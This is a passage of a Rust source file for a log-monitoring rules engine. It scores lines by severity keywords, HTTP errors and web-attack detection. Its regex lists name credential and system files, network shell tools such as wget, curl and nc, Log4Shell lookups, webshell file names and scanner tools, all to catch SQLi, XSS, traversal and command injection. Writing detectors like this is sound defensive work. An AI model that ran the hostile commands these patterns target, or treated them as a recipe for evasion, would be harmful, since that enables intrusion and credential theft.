//! Rules engine: a continuous signal for known-bad lines.
//!
//! Three families of built-in rules, plus user-defined ones:
//! - **severity**: the parsed log level (`severity:error`, `severity:fatal`, ...) and, for non-HTTP
//!   lines, tell-tale words in the content (`keyword:exception`, `keyword:panic`, `keyword:oom`...);
//! - **HTTP**: `http:5xx` for server errors;
//! - **web attacks** on access logs (`attack:sqli`, `attack:xss`, `attack:traversal`,
//!   `attack:cmdi`, `attack:probe`), matched on the request target and user agent after
//!   URL-decoding (up to three rounds), HTML-entity decoding, full-width folding and NUL removal,
//!   case-insensitively;
//! - **custom** rules: a user regex on the whole line (`custom:<name>`).
//!
//! Rule names are fine-grained and stable so that the detector can learn, per project, which rules
//! fire normally and discount them. Built-in regexes are compiled once per process and shared by
//! every [`RuleSet`].

use std::collections::HashSet;
use std::sync::OnceLock;

use regex::bytes::{
    Regex as BytesRegex, RegexBuilder as BytesRegexBuilder, RegexSet as BytesRegexSet,
    RegexSetBuilder as BytesRegexSetBuilder,
};
use regex::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
use serde::{Deserialize, Serialize};

use super::injection::{scan_request, InjectionKind};
use crate::error::{Error, Result};

/// Longest evidence string in a [`RuleHit`], in characters.
pub const MAX_EVIDENCE_CHARS: usize = 80;

/// Lazy-DFA cache per built-in regex and thread. The default (2 MiB) thrashes on long, varied
/// lines (OpenStack logs: 7x slower), after which the regex engine falls back to slower engines.
const DFA_CACHE_BYTES: usize = 16 << 20;

/// Compiled-size limit for one custom regex (bytes), so a hostile pattern cannot eat memory.
const CUSTOM_REGEX_SIZE_LIMIT: usize = 1 << 20;

/// What kind of problem a rule detects.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RuleCategory {
    /// Log level or error keywords (`severity:*`, `keyword:*`).
    Severity,
    /// HTTP server errors (`http:5xx`).
    HttpError,
    /// SQL injection in a request (`attack:sqli`).
    SqlInjection,
    /// Cross-site scripting in a request (`attack:xss`).
    Xss,
    /// Path traversal, local/remote file inclusion, and scanner probing of sensitive paths
    /// (`attack:traversal`, `attack:probe`).
    PathTraversal,
    /// OS command, code or template injection (`attack:cmdi`).
    CommandInjection,
    /// A client's behaviour over its session's recent lines (`behaviour:*`, see
    /// [`crate::model::behaviour`]).
    Behaviour,
    /// A user-defined rule (`custom:*`).
    Custom,
}

/// One rule that fired on a line.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct RuleHit {
    /// Stable rule name, e.g. `severity:error`, `http:5xx`, `attack:sqli`, `custom:my_rule`.
    pub rule: String,
    /// The rule's category.
    pub category: RuleCategory,
    /// How bad a hit is, in `0..=1`.
    pub severity: f32,
    /// The matched text (decoded for attack rules), at most [`MAX_EVIDENCE_CHARS`] characters.
    pub evidence: String,
}

/// A user-defined rule: a regex matched on the whole line.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct CustomRule {
    /// Rule name (non-empty, unique); hits are named `custom:<name>`.
    pub name: String,
    /// Regular expression (Rust `regex` syntax) searched in the raw line.
    pub pattern: String,
    /// Severity of a hit, in `0..=1`.
    pub severity: f32,
}

/// What the rules look at for one line.
#[derive(Clone, Copy, Debug, Default)]
pub struct RuleInput<'a> {
    /// The raw line.
    pub line: &'a str,
    /// The message part of the line (without timestamp/level prefix), or the whole line.
    pub content: &'a str,
    /// The parsed level, if any (`ERROR`, `warn`, `E`...).
    pub level: Option<&'a str>,
    /// HTTP status of an access-log line.
    pub http_status: Option<u16>,
    /// Raw (still URL-encoded) request path and query of an access-log line.
    pub http_target: Option<&'a str>,
    /// User agent of an access-log line.
    pub http_user_agent: Option<&'a str>,
    /// Referrer of an access-log line (raw, as written): scanners put payloads there too.
    pub http_referrer: Option<&'a str>,
}

/// Built-in rules plus validated custom rules. Immutable, cheap to share (`Send + Sync`).
#[derive(Clone, Debug)]
pub struct RuleSet {
    custom: Vec<CustomRule>,
    /// Hit names (`custom:<name>`), parallel to `custom`.
    custom_names: Vec<String>,
    /// Compiled custom regexes, parallel to `custom`.
    custom_regexes: Vec<Regex>,
    /// All custom regexes at once (one pass over the line); `None` without custom rules.
    custom_set: Option<RegexSet>,
    builtin: &'static Builtin,
}

impl RuleSet {
    /// Built-in rules plus `custom` ones.
    ///
    /// Errors with [`Error::InvalidInput`] naming the offending rule when a name is empty or
    /// duplicated, a severity is outside `0..=1` (or NaN), or a pattern does not compile.
    pub fn new(custom: Vec<CustomRule>) -> Result<Self> {
        let mut regexes = Vec::with_capacity(custom.len());
        let mut names = Vec::with_capacity(custom.len());
        let mut seen = HashSet::new();
        for (i, rule) in custom.iter().enumerate() {
            let label = if rule.name.trim().is_empty() {
                format!("custom rule #{}", i + 1)
            } else {
                format!("custom rule {:?}", rule.name)
            };
            if rule.name.trim().is_empty() {
                return Err(Error::invalid_input(format!("{label}: empty name")));
            }
            if !(0.0..=1.0).contains(&rule.severity) {
                return Err(Error::invalid_input(format!(
                    "{label}: severity {} is outside 0..=1",
                    rule.severity
                )));
            }
            let name = if rule.name.starts_with("custom:") {
                rule.name.clone()
            } else {
                format!("custom:{}", rule.name)
            };
            if !seen.insert(name.clone()) {
                return Err(Error::invalid_input(format!("{label}: duplicate name")));
            }
            let regex = RegexBuilder::new(&rule.pattern)
                .size_limit(CUSTOM_REGEX_SIZE_LIMIT)
                .build()
                .map_err(|e| Error::invalid_input(format!("{label}: bad pattern: {e}")))?;
            regexes.push(regex);
            names.push(name);
        }
        let custom_set = if custom.is_empty() {
            None
        } else {
            let set = RegexSetBuilder::new(custom.iter().map(|r| r.pattern.as_str()))
                .size_limit(CUSTOM_REGEX_SIZE_LIMIT.saturating_mul(custom.len().max(1)))
                .build()
                .map_err(|e| Error::invalid_input(format!("custom rules: {e}")))?;
            Some(set)
        };
        Ok(Self {
            custom,
            custom_names: names,
            custom_regexes: regexes,
            custom_set,
            builtin: builtin(),
        })
    }

    /// Only the built-in rules.
    pub fn builtin() -> Self {
        Self {
            custom: Vec::new(),
            custom_names: Vec::new(),
            custom_regexes: Vec::new(),
            custom_set: None,
            builtin: builtin(),
        }
    }

    /// The custom rules, as given to [`RuleSet::new`].
    pub fn custom_rules(&self) -> &[CustomRule] {
        &self.custom
    }

    /// Every rule that fires on `input`, at most one hit per rule name, in a stable order
    /// (severity, HTTP, attacks, custom). Never panics.
    pub fn evaluate(&self, input: &RuleInput) -> Vec<RuleHit> {
        let mut hits = Vec::new();
        let is_http = input.http_status.is_some() || input.http_target.is_some();
        let level = input
            .level
            .map(str::trim)
            .filter(|l| !l.is_empty() && *l != "-");
        if let Some(level) = level {
            if let Some((rule, severity)) = level_rule(level) {
                hits.push(hit(rule, RuleCategory::Severity, severity, level));
            }
        }
        if !is_http {
            self.builtin
                .keywords(input.content, level.is_some(), &mut hits);
        }
        if let Some(status) = input.http_status {
            if (500..=599).contains(&status) {
                hits.push(hit(
                    "http:5xx",
                    RuleCategory::HttpError,
                    0.6,
                    &status.to_string(),
                ));
            }
        }
        let first_attack = hits.len();
        match input.http_target {
            Some(target) => {
                self.builtin
                    .attacks(target, Source::Target, first_attack, &mut hits);
                if let Some(ua) = input.http_user_agent {
                    self.builtin
                        .attacks(ua, Source::UserAgent, first_attack, &mut hits);
                }
                if let Some(referrer) = input.http_referrer {
                    self.builtin
                        .attacks(referrer, Source::Referrer, first_attack, &mut hits);
                }
                injection_hits(input, first_attack, &mut hits);
            }
            None => self
                .builtin
                .attacks(input.line, Source::Line, first_attack, &mut hits),
        }
        if let Some(set) = &self.custom_set {
            for i in set.matches(input.line).iter() {
                let (Some(re), Some(name), Some(rule)) = (
                    self.custom_regexes.get(i),
                    self.custom_names.get(i),
                    self.custom.get(i),
                ) else {
                    continue;
                };
                let evidence = re.find(input.line).map(|m| m.as_str()).unwrap_or("");
                hits.push(hit(name, RuleCategory::Custom, rule.severity, evidence));
            }
        }
        hits
    }
}

/// libinjection's findings in a request (see [`super::injection`]), as `attack:sqli` /
/// `attack:xss` hits where the patterns above did not already give that rule. The evidence starts
/// with `libinjection` (and the SQL fingerprint), so a reader sees which detector spoke.
fn injection_hits(input: &RuleInput, first_attack: usize, hits: &mut Vec<RuleHit>) {
    let Some(target) = input.http_target else {
        return;
    };
    for finding in scan_request(target, input.http_user_agent, input.http_referrer) {
        let (rule, category, severity) = match finding.kind {
            InjectionKind::Sqli => ("attack:sqli", RuleCategory::SqlInjection, 0.9),
            InjectionKind::Xss => ("attack:xss", RuleCategory::Xss, 0.8),
        };
        if hits.iter().skip(first_attack).any(|h| h.rule == rule) {
            continue;
        }
        let evidence = if finding.fingerprint.is_empty() {
            format!("{LIBINJECTION_EVIDENCE}: {}", finding.value)
        } else {
            format!(
                "{LIBINJECTION_EVIDENCE} {}: {}",
                finding.fingerprint, finding.value
            )
        };
        hits.push(hit(rule, category, severity, &evidence));
    }
}

/// How the evidence of a hit found by libinjection starts.
pub const LIBINJECTION_EVIDENCE: &str = "libinjection";

/// Decodes a request part the way the attack patterns read it (see [`normalize`]): URL and HTML
/// decoding, full-width folding, NUL removal, ASCII lowercase.
pub(crate) fn decode_for_rules(raw: &str) -> String {
    normalize(raw).0
}

/// Builds a hit, trimming the evidence to [`MAX_EVIDENCE_CHARS`] and blanking control characters.
fn hit(rule: &str, category: RuleCategory, severity: f32, evidence: &str) -> RuleHit {
    RuleHit {
        rule: rule.to_string(),
        category,
        severity,
        evidence: evidence
            .chars()
            .take(MAX_EVIDENCE_CHARS)
            .map(|c| if c.is_control() { ' ' } else { c })
            .collect(),
    }
}

/// The severity rule of a log level, if it is one worth a hit.
fn level_rule(level: &str) -> Option<(&'static str, f32)> {
    let level = level.trim_matches(|c: char| {
        matches!(c, '[' | ']' | '<' | '>' | '(' | ')' | ':') || c.is_whitespace()
    });
    const LEVELS: &[(&[&str], &str, f32)] = &[
        (&["FATAL", "F"], "severity:fatal", 1.0),
        (&["CRITICAL", "CRIT"], "severity:critical", 1.0),
        (&["EMERG", "EMERGENCY"], "severity:emergency", 1.0),
        (&["ALERT", "A"], "severity:alert", 1.0),
        (&["PANIC"], "severity:panic", 1.0),
        (&["SEVERE"], "severity:severe", 0.9),
        (&["ERROR", "ERR", "E", "FAILURE"], "severity:error", 0.8),
        (&["WARN", "WARNING", "W"], "severity:warn", 0.3),
    ];
    LEVELS.iter().find_map(|(names, rule, severity)| {
        names
            .iter()
            .any(|n| n.eq_ignore_ascii_case(level))
            .then_some((*rule, *severity))
    })
}

// ---------------------------------------------------------------------------------------------
// Built-in patterns
// ---------------------------------------------------------------------------------------------

/// Extra check on a regex match, for words that are often part of identifiers.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Check {
    /// Accept every match.
    Any,
    /// The match must stand alone: not inside an identifier, path or file name.
    Word,
    /// Like `Word`, and not a "no error" / `error=0` style negative.
    Negatable,
    /// The match ends a dotted token (`java.lang.NullPointerException`): the evidence is the whole
    /// token, which must stand alone like `Word`.
    Token,
}

/// A built-in rule definition: name, category, severity, pattern, extra check.
type Def = (&'static str, RuleCategory, f32, &'static str, Check);

/// Content keywords (non-HTTP lines), matched on the ASCII-lowercased content (so patterns are
/// lowercase). Every pattern starts with a literal so the combined gate runs on a fast literal
/// prefilter.
const KEYWORDS: &[Def] = &[
    (
        "keyword:panic",
        RuleCategory::Severity,
        0.9,
        r"panic(?:ked)?\b",
        Check::Word,
    ),
    (
        "keyword:segfault",
        RuleCategory::Severity,
        0.9,
        r"segfault|segmentation (?:fault|violation)|sigsegv\b",
        Check::Any,
    ),
    (
        "keyword:oom",
        RuleCategory::Severity,
        0.9,
        r"out of memory|outofmemory|oom[-_ ]?kill|cannot allocate memory|memoryerror\b",
        Check::Any,
    ),
    (
        "keyword:core_dumped",
        RuleCategory::Severity,
        0.9,
        r"core dumped",
        Check::Any,
    ),
    (
        "keyword:traceback",
        RuleCategory::Severity,
        0.7,
        r"traceback\b",
        Check::Word,
    ),
    (
        "keyword:stack_trace",
        RuleCategory::Severity,
        0.6,
        r"stack[ -]?trace\b|stack backtrace\b",
        Check::Word,
    ),
    (
        "keyword:exception",
        RuleCategory::Severity,
        0.6,
        r"exception\b",
        Check::Token,
    ),
];

/// The upper-case abbreviation `OOM`, matched on the original content (case-sensitive).
const OOM_UPPER: Def = (
    "keyword:oom",
    RuleCategory::Severity,
    0.9,
    r"\bOOM\b",
    Check::Any,
);

/// A stack frame line: Java (`at com.x.Y.m(Y.java:12)`) or Python (`File "x.py", line 3, in f`).
/// Only tried when the trimmed content starts with `at ` or `File "`; matched on the original
/// content (case-sensitive).
const STACK_FRAME: Def = (
    "keyword:stack_frame",
    RuleCategory::Severity,
    0.4,
    r#"^\s*(?:at\s+[\w$.<>]+\((?:[\w$.\- ]+:\d+|Native Method|Unknown Source)\)|File "[^"]+", line \d+, in )"#,
    Check::Any,
);

/// Generic words that count only when the line has no parsed level (the level says it better).
const GENERIC_KEYWORDS: &[Def] = &[
    (
        "keyword:fatal",
        RuleCategory::Severity,
        0.9,
        r"fatal\b",
        Check::Negatable,
    ),
    (
        "keyword:error",
        RuleCategory::Severity,
        0.6,
        r"error\b",
        Check::Negatable,
    ),
];

/// Separator-free whitespace in SQL: blanks or inline comments (`union/**/select`).
macro_rules! sp {
    () => {
        r"(?:\s|/\*[^*]*\*/)"
    };
}

/// Known scanner names (in a user agent, or in the markers they put in payloads).
macro_rules! scanners {
    () => {
        r"\b(?:sqlmap|nikto|nessus|nmap|masscan|zgrab|acunetix|netsparker|wpscan|dirbuster|gobuster|nuclei|w3af|openvas|arachni|skipfish|wfuzz|ffuf|burpcollaborator|appscan|webinspect|havij|fimap|commix|zmeu)"
    };
}

/// Attack patterns that can match a plain path (only `[A-Za-z0-9/._~-]`): traversal by name and
/// scanner probes. Matched on decoded, ASCII-lowercased text (so patterns are lowercase).
const PATH_ATTACKS: &[Def] = &[
    (
        "attack:traversal",
        RuleCategory::PathTraversal,
        0.8,
        r"\.\.[/\\]|[/\\]\.\.(?:$|[?&;#])",
        Check::Any,
    ),
    (
        "attack:traversal",
        RuleCategory::PathTraversal,
        0.8,
        r"/etc/(?:passwd|shadow|group|hosts|issue|motd|hostname|crontab|sudoers|fstab)\b|/proc/(?:self|\d+)/|/proc/(?:version|cpuinfo|meminfo|mounts)\b|\b(?:win|system|boot)\.ini\b|\bc:(?:/|\\)+windows\b|\\windows\\system32|\bweb-inf[/\\]|/\.ssh/(?:id_|authorized_keys)|/var/log/(?:apache2?|httpd|nginx)/",
        Check::Any,
    ),
    (
        // Weak: requests for files that only scanners and intruders ask for.
        "attack:probe",
        RuleCategory::PathTraversal,
        0.4,
        r"/\.(?:env|git|svn|hg|bzr|ds_store|htaccess|htpasswd|aws|ssh|idea|vscode|docker|npmrc|bash_history|mysql_history)\b|/\.[\w-]+\.env\b|\bwp-login\.php|\bxmlrpc\.php|\bwp-config\.php|phpmyadmin|/pma/|/myadmin/|\badminer\.php|/cgi-bin/|\b(?:c99|c100|r57|wso|b374k|web|php-)?shell\.(?:php|asp|aspx|jsp)\b|\b(?:c99|r57)(?:eng|shell)?\.php|\b(?:php-)?backdoor\b|\bcmd(?:asp)?\.(?:php|asp|aspx|jsp)\b|/manager/html|/jmx-console|/web-console|/invoker/|/server-status|/server-info|\bphpinfo\.php|/vendor/phpunit|eval-stdin\.php|/boaform|/hnap1\b|/elmah\.axd|/trace\.axd|\bweb\.config\b|/config/database\.yml\b|\.(?:bak|old|orig|save|swp|sql|mdb|inc)(?:$|[?;&\s])",
        Check::Any,
    ),
    (
        "attack:probe",
        RuleCategory::PathTraversal,
        0.4,
        scanners!(),
        Check::Any,
    ),
];

/// File inclusion through wrappers and remote URLs: `file:///`, `php://filter`, `http://evil/?`
/// (trailing `?`), XML external entities. Needs a request context: plain log lines name
/// `file:///` paths innocently (Android intents).
const URL_ATTACKS: &[Def] = &[(
    "attack:traversal",
    RuleCategory::PathTraversal,
    0.8,
    r"\b(?:file|php|expect|phar|zip|glob|gopher|dict)://|(?:^|[=?&])(?:https?|ftp)://[^\s&]*\?(?:$|&)|<!entity\s",
    Check::Any,
)];

/// Something in a line that a request would have: a method before a path, or a protocol version.
/// Matched case-sensitively on the raw line.
const HTTP_HINT: &str =
    r"\b(?:GET|POST|HEAD|PUT|DELETE|OPTIONS|PATCH|PROPFIND|TRACE|CONNECT) +/|HTTP/\d";

/// Scanner signatures alone, for user agents with nothing else suspicious.
const SCANNER_ATTACKS: &[Def] = &[(
    "attack:probe",
    RuleCategory::PathTraversal,
    0.4,
    scanners!(),
    Check::Any,
)];

/// Injection patterns: they all need a character that a plain path lacks, and are specific enough
/// to run on any line (an application may log the input it refused). Matched on decoded,
/// ASCII-lowercased text (so patterns are lowercase).
const INJECTION_ATTACKS: &[Def] = &[
    // --- SQL injection -------------------------------------------------------------------
    (
        "attack:sqli",
        RuleCategory::SqlInjection,
        0.9,
        concat!(
            r"\bunion\b",
            sp!(),
            r"*(?:all\b|distinct\b)?",
            sp!(),
            r"*\(?",
            sp!(),
            r"*select\b"
        ),
        Check::Any,
    ),
    (
        // Quote-based tautology: ' or '1'='1, " or ""=", ') or ('a'='a, ' or 1=1, '||'a'='a
        "attack:sqli",
        RuleCategory::SqlInjection,
        0.9,
        concat!(
            r#"['"`)]"#,
            sp!(),
            r#"*(?:(?:or|and|xor)\b|\|\||&&)"#,
            sp!(),
            r#"*[('"`\s]*[\w@.\-]*['"`]?"#,
            sp!(),
            r#"*(?:=|<>|!=|<=|>=|\blike\b|\bis\b|\bbetween\b|\bregexp\b|\bsounds\s+like\b)"#
        ),
        Check::Any,
    ),
    (
        // Numeric tautology: or 1=1, and 2*3*8=6*8, or 3>2
        "attack:sqli",
        RuleCategory::SqlInjection,
        0.9,
        concat!(
            r"\b(?:or|and|xor)",
            sp!(),
            r"+\(?[\d*+\-.]+\)?",
            sp!(),
            r"*(?:=|<>|!=|<|>)",
            sp!(),
            r"*\(?[\d*+\-.]+\b"
        ),
        Check::Any,
    ),
    (
        "attack:sqli",
        RuleCategory::SqlInjection,
        0.9,
        r"\b(?:sleep|pg_sleep|benchmark|extractvalue|updatexml|load_file|randomblob|dbms_pipe\.receive_message|utl_inaddr\.get_host_address|make_set|elt|name_const|geometrycollection|multipoint)\s*\(",
        Check::Any,
    ),
    (
        "attack:sqli",
        RuleCategory::SqlInjection,
        0.9,
        concat!(
            r"\bwaitfor",
            sp!(),
            r"+(?:delay|time)\b|information_schema|\bsysobjects\b|\bsyscolumns\b|\bsqlite_master\b|\bpg_catalog\b|\bmysql\.user\b|@@version|@@datadir|@@hostname|\bxp_cmdshell\b|\bsp_executesql\b|\binto",
            sp!(),
            r"+(?:out|dump)file\b"
        ),
        Check::Any,
    ),
    (
        // A comment right after a closing quote: admin'--, 1')#, '/*
        "attack:sqli",
        RuleCategory::SqlInjection,
        0.9,
        r#"['"`]\s*\)*\s*(?:--(?:\s|$|[-+;#&])|/\*|#\s*(?:$|&))"#,
        Check::Any,
    ),
    (
        // Stacked queries: ; drop table, ;declare @x, ;exec xp_
        "attack:sqli",
        RuleCategory::SqlInjection,
        0.9,
        concat!(
            r";",
            sp!(),
            r"*(?:drop",
            sp!(),
            r"+(?:table|database)\b|delete",
            sp!(),
            r"+from\b|insert",
            sp!(),
            r"+into\b|update",
            sp!(),
            r"+\w+",
            sp!(),
            r"+set\b|declare",
            sp!(),
            r"*@|exec(?:ute)?",
            sp!(),
            r"*(?:\(|@|xp_|sp_|master\b)|shutdown\b|select",
            sp!(),
            r")"
        ),
        Check::Any,
    ),
    (
        // Sub-selects and SQL-only shapes: (select, select * from, select count(, select null,
        // char(65), cast(x as, convert(int,
        "attack:sqli",
        RuleCategory::SqlInjection,
        0.9,
        concat!(
            r"\(",
            sp!(),
            r"*select\b|\bselect",
            sp!(),
            r"+(?:\*|@@|null\b|count\s*\(|concat|group_concat|char\s*\(|\d+\s*(?:,|from\b))|\b(?:char|chr)\s*\(\s*\d+\s*\)|\bcast\s*\([^()]{0,40}\bas",
            sp!(),
            r"+\w|\bconvert\s*\(\s*\w+\s*,"
        ),
        Check::Any,
    ),
    // --- XSS -----------------------------------------------------------------------------
    (
        "attack:xss",
        RuleCategory::Xss,
        0.8,
        r"<\s*/?\s*(?:script|iframe|frame|frameset|svg|object|embed|applet|meta|base|link|style|marquee|isindex|body|img|image|input|form|video|audio|details|math|textarea|button|xss)\b",
        Check::Any,
    ),
    (
        // Script URLs, data: URIs in a parameter, and header injection (CRLF then a header).
        "attack:xss",
        RuleCategory::Xss,
        0.8,
        r"\b(?:java|vb|live)\s*script\s*:|\bdata\s*:\s*text/html|(?:^|[=?&])data:[\w/+.\-]*;base64,|[\r\n]\s*[\w-]+\s*:",
        Check::Any,
    ),
    (
        // Event handler attribute after a tag/attribute boundary: <svg/onload=, " onerror=
        "attack:xss",
        RuleCategory::Xss,
        0.8,
        r#"[\s"'/;]on(?:error|load|mouse\w+|click|dblclick|focus\w*|blur|change|submit|key\w+|abort|unload|beforeunload|resize|scroll|toggle|animation\w+|transition\w+|pointer\w+|input|select|wheel|drag\w*|drop|copy|cut|paste|hashchange|message|pageshow|popstate|start|begin|end|finish|show|auxclick|contextmenu|readystatechange)\s*="#,
        Check::Any,
    ),
    (
        "attack:xss",
        RuleCategory::Xss,
        0.8,
        r"\b(?:alert|prompt|confirm)(?:\(|`)|\bdocument\s*\.\s*(?:cookie|domain|write|location)\b|\bwindow\s*\.\s*location\b|\.innerhtml\b|\bstring\s*\.\s*fromcharcode\b|\bexpression\(",
        Check::Any,
    ),
    (
        // Breaking out of an attribute into a new tag: "><img, '/><svg
        "attack:xss",
        RuleCategory::Xss,
        0.8,
        r#"['"]\s*/?>\s*<\s*[a-z!/]"#,
        Check::Any,
    ),
    // --- Command, code and template injection ---------------------------------------------
    (
        // A shell separator then an unmistakable command.
        "attack:cmdi",
        RuleCategory::CommandInjection,
        0.9,
        r#"(?:[;|`\n]|&&|\$\()\s*(?:/(?:usr/)?s?bin/)?(?:wget|curl|uname|whoami|ncat|netcat|nc|bash|sh|zsh|ksh|dash|nslookup|ifconfig|ipconfig|python[23]?|perl|php|ruby|powershell|cmd(?:\.exe)?|echo|expr|certutil|bitsadmin|busybox|chmod|systeminfo|net\s+user|tftp|telnet)(?:\s|$|[;|&`'")<>$])"#,
        Check::Any,
    ),
    (
        // `;`, `|` or a newline, then a common word that is also a command: needs a shell-like
        // argument (`; cat /etc/passwd`, `|sleep 5`), since `tags=dog;cat` is ordinary.
        "attack:cmdi",
        RuleCategory::CommandInjection,
        0.9,
        r#"[;|\n]\s*(?:/(?:usr/)?s?bin/)?(?:(?:cat|id|ls|ps|env|set|type|dir|more|head|tail|find|kill|rm|touch|sed|awk|less)\s+(?:-\w|/|\$|~|\.\.?/|['"])|(?:sleep|ping)\s+(?:-\w|\d|\$))"#,
        Check::Any,
    ),
    (
        // Backticks, `$(`, `&&` or `||`, then a common command.
        "attack:cmdi",
        RuleCategory::CommandInjection,
        0.9,
        r#"(?:`|\$\(|&&|\|\|)\s*(?:/(?:usr/)?s?bin/)?(?:cat|id|ls|ps|env|set|type|dir|more|head|tail|find|kill|sleep|ping|rm|touch|sed|awk|less)(?:\s|$|[;|&`)'"])"#,
        Check::Any,
    ),
    (
        // Shells by path, cmd /c, shellshock, server-side includes.
        "attack:cmdi",
        RuleCategory::CommandInjection,
        0.9,
        r"/bin/(?:ba|z|k|da)?sh\b|\bcmd(?:\.exe)?\s+/[ck]\b|\bsh\s+-c\b|\bpowershell(?:\.exe)?\s+-|\(\s*\)\s*\{\s*:?\s*;?\s*\}\s*;|<!--\s*#\s*(?:exec|include|echo|config|printenv)\b",
        Check::Any,
    ),
    (
        // Log4Shell-style lookups, expression/template injection, PHP/ASP code execution.
        "attack:cmdi",
        RuleCategory::CommandInjection,
        0.9,
        r"\$\{\s*(?:jndi|lower|upper|env|sys|java|date|ctx|::-|\$\{)|\$\{\s*\d+\s*[*+]\s*\d+\s*\}|\{\{\s*\d+\s*[*+]\s*\d+\s*\}\}|\b(?:system|exec|passthru|shell_exec|popen|proc_open|phpinfo|eval|call_user_func|create_function)\s*\(|\bresponse\s*\.\s*write\s*\(",
        Check::Any,
    ),
];

/// A group of compiled patterns: a quick "any of them?" gate (one forward scan that can stop
/// early, much cheaper than a set's overlapping scan), a set (which ones?) and individual regexes
/// (where?).
#[derive(Debug)]
struct Group {
    any: Option<BytesRegex>,
    set: BytesRegexSet,
    defs: Vec<Compiled>,
}

/// One compiled built-in pattern.
#[derive(Debug)]
struct Compiled {
    rule: &'static str,
    category: RuleCategory,
    severity: f32,
    regex: BytesRegex,
    check: Check,
}

/// Compiled built-in rules.
#[derive(Debug)]
struct Builtin {
    keywords: Group,
    oom_upper: Group,
    stack_frame: Group,
    generic: Group,
    /// Attacks possible in a plain path.
    path: Group,
    /// All attacks (path, URL and injection patterns), for requests.
    attacks: Group,
    /// Injection patterns only, for lines that do not look like requests.
    injection: Group,
    scanner: Group,
    /// Whether an unparsed line looks like it holds a request.
    http_hint: Option<BytesRegex>,
}

/// The shared compiled built-in rules (compiled on first use).
fn builtin() -> &'static Builtin {
    static BUILTIN: OnceLock<Builtin> = OnceLock::new();
    BUILTIN.get_or_init(|| Builtin {
        keywords: Group::new(KEYWORDS),
        oom_upper: Group::new(&[OOM_UPPER]),
        stack_frame: Group::new(&[STACK_FRAME]),
        generic: Group::new(GENERIC_KEYWORDS),
        path: Group::new(PATH_ATTACKS),
        attacks: Group::new(&[PATH_ATTACKS, URL_ATTACKS, INJECTION_ATTACKS].concat()),
        injection: Group::new(INJECTION_ATTACKS),
        scanner: Group::new(SCANNER_ATTACKS),
        http_hint: bytes_regex(HTTP_HINT),
    })
}

/// Built-in patterns are ASCII-only byte regexes matched on lowercased text: a much smaller lazy
/// DFA than Unicode classes give, and literal prefilters that case-insensitive matching would
/// disable (several times faster). Unicode evasions are folded away by [`normalize`] first.
fn bytes_regex(src: &str) -> Option<BytesRegex> {
    BytesRegexBuilder::new(src)
        .unicode(false)
        .dfa_size_limit(DFA_CACHE_BYTES)
        .build()
        .ok()
}

impl Group {
    /// Compiles definitions. A pattern that does not compile is dropped (a unit test guarantees
    /// none does), so this never panics.
    fn new(defs: &[Def]) -> Self {
        let defs: Vec<Compiled> = defs
            .iter()
            .filter_map(|&(rule, category, severity, src, check)| {
                bytes_regex(src).map(|regex| Compiled {
                    rule,
                    category,
                    severity,
                    regex,
                    check,
                })
            })
            .collect();
        let set = BytesRegexSetBuilder::new(defs.iter().map(|c| c.regex.as_str()))
            .unicode(false)
            .dfa_size_limit(DFA_CACHE_BYTES)
            .build()
            .unwrap_or_else(|_| BytesRegexSet::empty());
        let any = defs
            .iter()
            .map(|c| format!("(?:{})", c.regex.as_str()))
            .collect::<Vec<_>>()
            .join("|");
        Self {
            any: bytes_regex(&any),
            set,
            defs,
        }
    }

    /// Records one hit per rule name (the first pattern of a rule whose match passes its check);
    /// rules already hit at or after `hits[from]` are skipped. Patterns run on `text`; evidence
    /// is cut from `original` at the same offsets (`text` is `original` lowercased, or the same).
    fn run(&self, text: &str, original: &str, hits: &mut Vec<RuleHit>, from: usize) {
        let bytes = text.as_bytes();
        if self.any.as_ref().is_some_and(|any| !any.is_match(bytes)) {
            return;
        }
        let matches = self.set.matches(bytes);
        for i in matches.iter() {
            let Some(def) = self.defs.get(i) else {
                continue;
            };
            if hits.iter().skip(from).any(|h| h.rule == def.rule) {
                continue;
            }
            let found = def.regex.find_iter(bytes).find_map(|m| {
                let (start, end) = match def.check {
                    Check::Token => (token_start(bytes, m.start()), m.end()),
                    _ => (m.start(), m.end()),
                };
                passes(def.check, text, start, end).then_some((start, end))
            });
            if let Some((start, end)) = found {
                let source = if original.len() == text.len() {
                    original.as_bytes()
                } else {
                    bytes
                };
                let evidence = String::from_utf8_lossy(source.get(start..end).unwrap_or(&[]));
                hits.push(hit(def.rule, def.category, def.severity, &evidence));
            }
        }
    }
}

impl Builtin {
    /// Content keyword rules; `generic` words only when the line has no level.
    fn keywords(&self, content: &str, has_level: bool, hits: &mut Vec<RuleHit>) {
        let from = hits.len();
        let lower = content.to_ascii_lowercase();
        self.keywords.run(&lower, content, hits, from);
        if content.contains("OOM") {
            self.oom_upper.run(content, content, hits, from);
        }
        let trimmed = content.trim_start();
        if trimmed.starts_with("at ") || trimmed.starts_with("File \"") {
            self.stack_frame.run(content, content, hits, from);
        }
        if !has_level {
            self.generic.run(&lower, content, hits, from);
        }
    }

    /// Web-attack rules on one raw (still encoded) text; rules already hit at or after
    /// `hits[from]` are not repeated.
    fn attacks(&self, raw: &str, source: Source, from: usize, hits: &mut Vec<RuleHit>) {
        if raw.is_empty() {
            return;
        }
        if source == Source::UserAgent && !raw.bytes().any(suspicious_in_user_agent) {
            // Ordinary-looking user agents are only checked for scanner names.
            let lower = raw.to_ascii_lowercase();
            self.scanner.run(&lower, &lower, hits, from);
            return;
        }
        let request_like = match source {
            Source::Target | Source::UserAgent | Source::Referrer => true,
            Source::Line => self
                .http_hint
                .as_ref()
                .is_some_and(|re| re.is_match(raw.as_bytes())),
        };
        let (text, had_nul) = normalize(raw);
        if !request_like {
            self.injection.run(&text, &text, hits, from);
            return;
        }
        if text.bytes().all(plain_path_byte) {
            self.path.run(&text, &text, hits, from);
        } else {
            self.attacks.run(&text, &text, hits, from);
        }
        if had_nul && !hits.iter().skip(from).any(|h| h.rule == "attack:traversal") {
            // A NUL byte has no business in a URL: null-byte injection (file-extension bypass).
            hits.push(hit(
                "attack:traversal",
                RuleCategory::PathTraversal,
                0.8,
                "%00",
            ));
        }
    }
}

/// Where a text scanned for attacks comes from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Source {
    /// A parsed request target.
    Target,
    /// A parsed user agent.
